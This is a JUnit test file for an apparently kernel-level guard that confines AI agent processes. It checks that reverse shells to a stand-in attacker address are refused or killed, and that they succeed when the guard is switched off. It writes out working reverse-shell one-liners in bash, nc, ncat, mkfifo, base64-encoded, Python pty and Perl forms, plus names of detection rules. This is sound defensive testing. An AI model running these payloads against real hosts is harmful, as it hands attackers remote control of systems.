package io.agentguard.daemon;

import io.agentguard.config.Policy;
import io.agentguard.proto.v1.ConnectEvent;
import io.agentguard.proto.v1.Event;
import io.agentguard.proto.v1.StdioHow;
import io.agentguard.proto.v1.StdioSocketEvent;
import io.agentguard.proto.v1.Verdict;
import io.agentguard.proto.v1.Violation;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Reverse shells, played by processes in agent cgroups against a listener in the test JVM
 * (outside the cgroups) on 127.66.0.5, which stands for the attacker's host. The listener
 * sends {@code echo ag-$((6*7))-pwned; exit}: "ag-42-pwned" back proves a working shell.
 *
 * <p>With {@code egress.shells: deny} and {@code exec.deny_socket_shell: true} every spelling
 * is stopped by what it does (a shell or relay connecting out: EPERM; a remote socket put on
 * stdio: SIGKILL before the next instruction) and the listener never receives a byte. The
 * same attack in a cgroup whose policy turns both keys off gets its shell: the test can fail.
 */
class ReverseShellKernelTest {
    private static final String ATTACKER = "127.66.0.5";
    private static final String MIRROR = "127.66.0.10";   // a host shells are explicitly allowed to reach
    private static final String MARKER = "ag-42-pwned";
    private static final Path SCRATCH;

    static {
        try {
            SCRATCH = Files.createTempDirectory("agentguard-revshell");
            Files.setPosixFilePermissions(SCRATCH, PosixFilePermissions.fromString("rwxr-xr-x"));
            // the pack's reverse-shell rules kill from the daemon too: switched off here, so that what
            // these tests see is the kernel's mechanism alone (and the unguarded cgroup really is unguarded)
            StringBuilder off = new StringBuilder();
            for (String rule : List.of("Shell redirected to /dev/tcp or /dev/udp", "Netcat with command execution",
                    "Socat executing a program", "Named pipe shell piped to netcat", "Interpreter reverse shell one-liner",
                    "Shell spawned by network relay")) {
                off.append("- rule: ").append(rule).append("\n  enabled: false\n  override: {enabled: replace}\n");
            }
            Files.createDirectories(SCRATCH.resolve("rules"));
            Files.writeString(SCRATCH.resolve("rules/pack-kills-off.yaml"), off);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static final String POLICY = """
                egress:
                  default: allow
                  allow: ["%s/32"]
                  shells: deny
                exec: {deny_socket_shell: true}
            """.formatted(MIRROR);

    @RegisterExtension
    static final KernelAgentExtension KERNEL = new KernelAgentExtension(4096)
            .withRules(List.of(SCRATCH.resolve("rules") + "/*.yaml")).configure(b -> b.enforce(true)
            .defaultPolicy(EnforcementKernelTest.policies(POLICY)));

    @AfterAll
    static void cleanUp() throws IOException {
        try (var files = Files.walk(SCRATCH)) {
            files.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
        }
    }

    /** A cgroup whose policy is the test default with both reverse-shell keys off: the attack must work there. */
    private static Path unguardedCgroup(String name) throws IOException {
        Path cg = KERNEL.newCgroup(name);
        Policy base = EnforcementKernelTest.policies(POLICY);
        KERNEL.agent().addPolicyForTest(base.withCgroup(KERNEL.mount().relativize(cg).toString()).withShellKeys(false, false));
        return cg;
    }

    private static Path guardedCgroup(String name) throws IOException {
        return KERNEL.newCgroup(name);   // the default policy: both keys on
    }

    /** The attacker's TCP listener: sends the shell commands to each connection, hangs up once the shell answered. */
    private static TcpTestListener attacker(String host) throws IOException {
        return new TcpTestListener(host, "revshell", "echo ag-$((6*7))-pwned\nexit\n".getBytes(StandardCharsets.US_ASCII), MARKER);
    }

    /** A plain server (a health endpoint, a mirror) that only reads; it hangs up once a shell answered too. */
    private static TcpTestListener server(String host) throws IOException {
        return new TcpTestListener(host, "revshell", null, MARKER);
    }

    private static Path file(String name, String text) throws IOException {
        Path p = SCRATCH.resolve(name);
        Files.writeString(p, text);
        Files.setPosixFilePermissions(p, PosixFilePermissions.fromString("rwxr-xr-x"));
        return p;
    }

    private static final String PYTHON_SHELL = """
            import os, pty, socket, sys
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect((sys.argv[1], int(sys.argv[2])))
            os.dup2(s.fileno(), 0)
            os.dup2(s.fileno(), 1)
            os.dup2(s.fileno(), 2)
            pty.spawn("/bin/sh")
            """;

    private static final String PERL_SHELL = """
            use Socket;
            socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
            if (connect(S, sockaddr_in($ARGV[1], inet_aton($ARGV[0])))) {
              open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
              exec("/bin/sh -i");
            }
            """;

    /** The attack spellings: each returns the argv that runs it against host:port. */
    static List<String> attack(String spelling, String host, int port) throws IOException {
        String tcp = "/dev/tcp/" + host + "/" + port;
        return switch (spelling) {
            case "bash-i" -> List.of("bash", "-c", "bash -i >& " + tcp + " 0>&1");
            case "exec-fd" -> List.of("bash", "-c", "exec 3<>" + tcp + "; sh <&3 >&3 2>&3");
            case "base64" -> List.of("bash", "-c", "bash -c \"$(echo " + Base64.getEncoder().encodeToString(
                    ("sh -i >& " + tcp + " 0>&1").getBytes(StandardCharsets.US_ASCII)) + " | base64 -d)\"");
            case "script-file" -> List.of(file("job-" + port, "#!/bin/bash\nsh -i >& " + tcp + " 0>&1\n").toString());
            case "nc-e" -> List.of("nc", "-e", "/bin/sh", host, String.valueOf(port));
            case "ncat-sh-exec" -> List.of("ncat", "--sh-exec", "sh", host, String.valueOf(port));
            case "mkfifo" -> List.of("sh", "-c", "f=" + SCRATCH + "/f-" + port + "; rm -f $f; mkfifo $f; sh -i < $f 2>&1 | nc "
                    + host + " " + port + " > $f");
            case "renamed-ncat" -> {
                Path copy = SCRATCH.resolve("helper-" + port);
                Files.copy(Path.of("/usr/bin/ncat"), copy);
                Files.setPosixFilePermissions(copy, PosixFilePermissions.fromString("rwxr-xr-x"));
                yield List.of(copy.toString(), "-e", "/bin/sh", host, String.valueOf(port));
            }
            case "renamed-bash" -> {
                Path copy = SCRATCH.resolve("b-" + port);
                Files.copy(Path.of("/bin/bash"), copy);
                Files.setPosixFilePermissions(copy, PosixFilePermissions.fromString("rwxr-xr-x"));
                yield List.of(copy.toString(), "-c", "exec 0<>" + tcp + " 1>&0 2>&0; sh -i");
            }
            case "python-pty" -> List.of("/usr/bin/python3", file("agent_task.py", PYTHON_SHELL).toString(), host,
                    String.valueOf(port));
            case "perl" -> List.of("perl", file("task.pl", PERL_SHELL).toString(), host, String.valueOf(port));
            default -> throw new IllegalArgumentException(spelling);
        };
    }

    /** Runs an attack in a cgroup, bounded: where nothing stops it, a shell on UDP would wait for input for ever. */
    private static KernelAgentExtension.Run run(Path cg, List<String> argv) throws IOException, InterruptedException {
        List<String> bounded = new ArrayList<>(List.of("timeout", "-s", "KILL", "30"));
        bounded.addAll(argv);
        return KERNEL.runIn(cg, bounded.toArray(String[]::new));
    }

    /** Stopped by the shell connect rule: EPERM, no connection at all. */
    @ParameterizedTest
    @ValueSource(strings = {"bash-i", "exec-fd", "base64", "script-file", "nc-e", "ncat-sh-exec", "mkfifo"})
    void shellOrRelayConnectingOutIsRefusedWhateverTheSpelling(String spelling) throws Exception {
        try (TcpTestListener l = attacker(ATTACKER)) {
            Path cg = guardedCgroup("shell-" + spelling);
            run(cg, attack(spelling, ATTACKER, l.port()));
            List<Event> denied = KERNEL.await(e -> e.getProcess().getCgroupId() == KERNEL.cgroupId(cg) && e.hasConnect()
                    && e.getConnect().getShell() && e.getConnect().getVerdict() == Verdict.VERDICT_DENIED, 1,
                    Duration.ofSeconds(10));
            assertThat(denied).as("a denied shell connect").isNotEmpty();
            ConnectEvent c = denied.getFirst().getConnect();
            assertThat(c.getAddress()).isEqualTo(ATTACKER);
            assertThat(c.getPort()).isEqualTo(l.port());
            assertThat(l.connections()).as("connections the attacker got").isZero();
        }
    }

    /** Stopped by a remote socket on stdio: killed before the shell reads a byte; no shell connect involved. */
    @ParameterizedTest
    @ValueSource(strings = {"renamed-bash", "python-pty", "perl"})
    void remoteSocketPutOnStdioKillsTheProcess(String spelling) throws Exception {
        try (TcpTestListener l = attacker(ATTACKER)) {
            Path cg = guardedCgroup("stdio-" + spelling);
            KernelAgentExtension.Run run = run(cg, attack(spelling, ATTACKER, l.port()));
            if (!spelling.equals("renamed-ncat")) {   // ncat dup2s in a child it forked: the child dies
                assertThat(run.exitStatus()).as(run.stdout()).isEqualTo(128 + 9);
            }
            List<Event> killed = KERNEL.await(e -> e.getProcess().getCgroupId() == KERNEL.cgroupId(cg)
                    && e.hasStdioSocket() && e.getStdioSocket().getVerdict() == Verdict.VERDICT_DENIED, 1,
                    Duration.ofSeconds(10));
            assertThat(killed).isNotEmpty();
            StdioSocketEvent s = killed.getFirst().getStdioSocket();
            assertThat(s.getHow()).isIn(StdioHow.STDIO_HOW_DUP2, StdioHow.STDIO_HOW_DUP3);
            assertThat(s.getPeerAddr()).isEqualTo(ATTACKER);
            assertThat(s.getPeerPort()).isEqualTo(l.port());
            assertThat(s.getFd()).isBetween(0, 2);
            List<Violation> v = KERNEL.awaitViolations(x -> x.getRule().equals("agentguard: shell on a network socket killed")
                    && x.getProcess().getCgroupId() == KERNEL.cgroupId(cg), 1, Duration.ofSeconds(10));
            assertThat(v).isNotEmpty();
            assertThat(l.received()).as("bytes the attacker got").isEmpty();
        }
    }

    /** The same attacks where the policy turns both keys off: the attacker gets a working shell. */
    @ParameterizedTest
    @ValueSource(strings = {"bash-i", "exec-fd", "base64", "script-file", "nc-e", "ncat-sh-exec", "mkfifo",
            "renamed-ncat", "renamed-bash", "python-pty", "perl"})
    void withoutTheKeysTheSameAttackGetsAShell(String spelling) throws Exception {
        try (TcpTestListener l = attacker(ATTACKER)) {
            Path cg = unguardedCgroup("open-" + spelling);
            run(cg, attack(spelling, ATTACKER, l.port()));
            assertThat(l.await(MARKER, Duration.ofSeconds(20))).as("the shell answered: " + l.received()).isTrue();
        }
    }

    @Test
    void udpRedirectionOfAShellIsRefused() throws Exception {
        try (DatagramSocket attacker = new DatagramSocket(new InetSocketAddress(InetAddress.getByName(ATTACKER), 0))) {
            attacker.setSoTimeout(1);
            Path cg = guardedCgroup("udp");
            run(cg, List.of("bash", "-c", "sh -i >& /dev/udp/" + ATTACKER + "/" + attacker.getLocalPort() + " 0>&1"));
            List<Event> denied = KERNEL.await(e -> e.getProcess().getCgroupId() == KERNEL.cgroupId(cg) && e.hasConnect()
                    && e.getConnect().getShell() && e.getConnect().getVerdict() == Verdict.VERDICT_DENIED, 1,
                    Duration.ofSeconds(10));
            assertThat(denied).isNotEmpty();
            assertThat(denied.getFirst().getConnect().getPort()).isEqualTo(attacker.getLocalPort());
            assertThat(receiveOne(attacker)).as("a datagram reached the attacker").isFalse();

            Path open = unguardedCgroup("udp-open");
            KERNEL.runIn(open, "bash", "-c", "echo " + MARKER + " >& /dev/udp/" + ATTACKER + "/" + attacker.getLocalPort());
            attacker.setSoTimeout(10_000);
            assertThat(receiveOne(attacker)).as("without the keys the datagram arrives").isTrue();
        }
    }

    private static boolean receiveOne(DatagramSocket s) throws IOException {
        try {
            s.receive(new DatagramPacket(new byte[512], 512));
            return true;
        } catch (SocketTimeoutException e) {
            return false;
        }
    }

    /** A localhost health probe from a shell: allowed, and not even flagged as a shell connect. */
    @Test
    void shellHealthProbeToLocalhostIsAllowed() throws Exception {
        try (TcpTestListener l = server("127.0.0.1")) {
            Path cg = guardedCgroup("probe");
            KernelAgentExtension.Run run = KERNEL.runIn(cg, "bash", "-c", "echo " + MARKER + " > /dev/tcp/127.0.0.1/"
                    + l.port() + " && echo up");
            assertThat(run.stdout()).isEqualTo("up\n");
            assertThat(run.exitStatus()).isZero();
            assertThat(l.await(MARKER, Duration.ofSeconds(10))).isTrue();
            List<Event> connects = KERNEL.await(e -> e.getProcess().getCgroupId() == KERNEL.cgroupId(cg) && e.hasConnect()
                    && e.getConnect().getPort() == l.port(), 1, Duration.ofSeconds(10));
            assertThat(connects).hasSize(1);
            assertThat(connects.getFirst().getConnect().getShell()).isFalse();
            assertThat(connects.getFirst().getConnect().getVerdict()).isEqualTo(Verdict.VERDICT_ALLOWED);
        }
    }

    /** A shell may reach what policy explicitly allows (a package mirror): flagged, allowed. */
    @Test
    void shellConnectToAnExplicitlyAllowedHostIsAllowed() throws Exception {
        try (TcpTestListener l = server(MIRROR)) {
            Path cg = guardedCgroup("allowed");
            KernelAgentExtension.Run run = KERNEL.runIn(cg, "bash", "-c", "echo " + MARKER + " > /dev/tcp/" + MIRROR + "/"
                    + l.port());
            List<Event> connects = KERNEL.await(e -> e.getProcess().getCgroupId() == KERNEL.cgroupId(cg) && e.hasConnect()
                    && e.getConnect().getPort() == l.port(), 1, Duration.ofSeconds(10));
            assertThat(l.await(MARKER, Duration.ofSeconds(10))).as(run + " " + connects).isTrue();
            assertThat(connects.getFirst().getConnect().getShell()).isTrue();
            assertThat(connects.getFirst().getConnect().getExplicitAllow()).isTrue();
            assertThat(connects.getFirst().getConnect().getVerdict()).isEqualTo(Verdict.VERDICT_ALLOWED);
        }
    }

    /** Programs that are not shells connect as the egress policy says: python's HTTP client, curl from a script. */
    @Test
    void nonShellClientsAndAShellScriptRunningCurlAreAllowed() throws Exception {
        com.sun.net.httpserver.HttpServer http = com.sun.net.httpserver.HttpServer.create(
                new InetSocketAddress(InetAddress.getByName(ATTACKER), 0), 0);
        http.createContext("/", x -> {
            byte[] body = "served\n".getBytes(StandardCharsets.US_ASCII);
            x.sendResponseHeaders(200, body.length);
            x.getResponseBody().write(body);
            x.close();
        });
        http.start();
        try {
            String url = "http://" + ATTACKER + ":" + http.getAddress().getPort() + "/";
            Path cg = guardedCgroup("clients");
            KernelAgentExtension.Run py = KERNEL.runIn(cg, "/usr/bin/python3", "-c",
                    "import urllib.request; print(urllib.request.urlopen('" + url + "').read().decode(), end='')");
            assertThat(py.stdout()).isEqualTo("served\n");
            Path script = file("fetch.sh", "#!/bin/sh\ncurl -s " + url + "\n");
            KernelAgentExtension.Run curl = KERNEL.runIn(cg, script.toString());
            assertThat(curl.stdout()).isEqualTo("served\n");
            assertThat(curl.exitStatus()).isZero();
        } finally {
            http.stop(0);
        }
    }

    /** A tool serving a shell to this host itself (127.0.0.1) is reported, not killed. */
    @Test
    void shellOnALoopbackSocketIsReportedNotKilled() throws Exception {
        try (TcpTestListener l = attacker("127.0.0.1")) {
            Path cg = guardedCgroup("loopback");
            KernelAgentExtension.Run run = KERNEL.runIn(cg, attack("python-pty", "127.0.0.1", l.port()).toArray(String[]::new));
            assertThat(l.await(MARKER, Duration.ofSeconds(20))).as(run.stdout()).isTrue();
            List<Event> seen = KERNEL.await(e -> e.getProcess().getCgroupId() == KERNEL.cgroupId(cg) && e.hasStdioSocket(),
                    1, Duration.ofSeconds(10));
            assertThat(seen).isNotEmpty();
            assertThat(seen.getFirst().getStdioSocket().getLoopback()).isTrue();
            assertThat(seen.getFirst().getStdioSocket().getVerdict()).isEqualTo(Verdict.VERDICT_ALLOWED);
        }
    }

    /** Monitor mode: the shell works, and is reported as what enforce mode would have killed. */
    @Test
    void monitorModeReportsTheSocketShellWithoutKilling() throws Exception {
        try (TcpTestListener l = attacker(ATTACKER)) {
            Path cg = KERNEL.newCgroup("monitor");
            Policy base = EnforcementKernelTest.policies(POLICY);
            Policy monitor = new Policy(KERNEL.mount().relativize(cg).toString(), false, base.egressDefaultDeny(),
                    base.egress(), base.gpuAll(), base.gpuAllowed(), base.computeAllowed(), base.computeExecutables(),
                    base.execDenyNames(), base.execDenyPaths(), base.execDenySha256(), base.execDenyFileless(),
                    base.execDenyLoader(), base.rawSocketsAllowed(), base.unixOutsideDeny(), true, true, base.tunnelDeny());
            KERNEL.agent().addPolicyForTest(monitor);
            KERNEL.runIn(cg, attack("python-pty", ATTACKER, l.port()).toArray(String[]::new));
            assertThat(l.await(MARKER, Duration.ofSeconds(20))).isTrue();
            List<Violation> v = KERNEL.awaitViolations(x -> x.getRule().equals("agentguard: shell on a network socket (monitor)")
                    && x.getProcess().getCgroupId() == KERNEL.cgroupId(cg), 1, Duration.ofSeconds(10));
            assertThat(v).isNotEmpty();
        }
    }
}
